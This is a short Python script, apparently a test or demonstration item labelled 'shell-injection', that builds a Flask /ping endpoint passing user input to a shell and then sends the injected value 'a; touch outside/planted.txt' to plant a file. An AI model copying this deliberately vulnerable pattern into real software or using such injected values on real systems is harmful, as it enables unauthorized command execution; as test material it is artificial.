# attack: shell-injection
# needs: flask
import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.post("/ping")
def ping():
    return subprocess.run("echo " + request.form["host"], shell=True, capture_output=True, text=True).stdout
app.test_client().post("/ping", data={"host": "a; touch outside/planted.txt"})
